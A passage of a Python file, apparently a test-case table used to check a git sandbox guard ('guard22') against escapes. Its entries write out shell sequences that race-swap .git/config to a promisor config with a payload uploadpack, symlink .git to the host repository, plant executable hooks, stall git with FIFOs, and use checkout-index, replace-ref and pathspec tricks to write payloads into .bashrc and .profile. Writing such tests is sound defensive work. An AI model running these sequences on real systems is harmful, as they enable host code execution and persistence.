    "a /tmp repo's config by mv": [RUN, CFG, _TI, "mv cfg.txt {T}/.git/config", "git -C {T} status > /dev/null"],
    "a /tmp repo's hooksPath by a template": [RUN, HOOK, "mkdir -p tpl/hooks && cp h.txt tpl/hooks/post-checkout && chmod +x tpl/hooks/post-checkout", "git init -q --template=tpl {T} && git -C {T} commit -q --allow-empty -m a", "git -C {T} checkout -q -b z"],
    "a /tmp clone's hook by cp -r": [RUN, HOOK, "git init -q {T} && git -C {T} commit -q --allow-empty -m a && mkdir -p hk && cp h.txt hk/post-checkout && chmod +x hk/post-checkout", "cp -r hk/. {T}/.git/hooks/", "git -C {T} checkout -q -b z"],
}

# 7. attacking guard22's own readers (written after its first commits)
_PROMISOR_CFG = ("p.cfg", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote \"origin\"]\n"
                          "\turl = {W}\n\tpromisor = true\n\tuploadpack = " + HP + "\n")
OWN = {
    "config swapped to a promisor one while the guard reads": [C1, _PROMISOR_CFG, "cp .git/config c0.cfg",
                                                                "(for i in $(seq 1 4000); do cp p.cfg .git/config; cp c0.cfg .git/config; done > /dev/null 2>&1 &)",
                                                                "git merge -q {S}", "git merge -q {S}", "git merge -q {S}"],
    ".git swapped with a link to the host repo while the guard reads": [C1, "mv .git .git0",
                                                                         "(for i in $(seq 1 4000); do ln -sfn .git0 .git; ln -sfn {HR}/.git .git; done > /dev/null 2>&1 &)",
                                                                         "git checkout HEAD -- .", "git checkout HEAD -- .", "git checkout HEAD -- ."],
    "mkfifo .git": ["mkfifo .git", "git checkout HEAD -- . 2>/dev/null; true"],
    "a loose ref is a FIFO, reset --hard to it": [C1, "mkfifo .git/refs/heads/f", "git reset -q --hard f"],
    "git -c include.path on the writer": [C1, _PROMISOR_CFG, "git -c include.path={W}/p.cfg merge -q {S}"],
    "checkout-index --stdin with a prefix": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "echo bashrc | git checkout-index -f --stdin --prefix=."],
    "checkout --pathspec-from-file without a rev": _CL + ["git reset -q o/p-bashrc", ("l.txt", ".bashrc\n"), "git checkout --pathspec-from-file=l.txt"],
    "checkout-index --prefix with a variable": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "P=.; git checkout-index -a -f --prefix=$P"],
    "checkout-index --prefix=./.": [C1, ("bashrc", P + "\n"), "git add bashrc && git commit -qm b", "git checkout-index -a -f --prefix=./."],
    "replace then merge with useReplaceRefs off": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "git -c core.useReplaceRefs=false merge -q o/p-bashrc"],
    "replace then GIT_NO_REPLACE_OBJECTS merge": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "GIT_NO_REPLACE_OBJECTS=1 git merge -q o/p-bashrc"],
    "replace then --no-replace-objects merge": _CL + ["git checkout -q -b side && echo x > a.txt && git add a.txt && git commit -qm s && git checkout -q main", "git replace o/p-bashrc side", "git --no-replace-objects merge -q o/p-bashrc"],
    "switch --discard-changes to a reset branch": _CL + ["git branch -q y o/p-bashrc 2>/dev/null; git branch y o/p-bashrc", "git switch -q --discard-changes y"],
    "stash push of a path after a mixed reset": _CL + ["git reset -q o/p-profile", "git stash push -q -- .profile"],
    "a submodule-shaped core.worktree naming the workspace": _CL + ["mkdir -p m && git init -q --separate-git-dir=.git/modules/m m && git -C m fetch -q ../r.bundle 'refs/heads/*:refs/remotes/o/*'",
                                                                     "git -C m config core.worktree ../../..", "git -C m checkout -q o/p-bashrc -- ."],
    "the time budget spent on FIFO objects, then a real listing": _CL + ["for i in 1 2 3; do mkfifo .git/refs/heads/f$i; done",
                                                                          "git merge -q f1 2>/dev/null; git merge -q f2 2>/dev/null; git merge -q f3 2>/dev/null; git merge -q o/p-bashrc"],
}

TABLES = {"hostexec": HOSTEXEC, "hostread": HOSTREAD, "diverge": DIVERGE, "slow": SLOW, "open21": OPEN21,
          "session": SESSION22, "sandboxgit": SANDBOXGIT, "own": OWN}
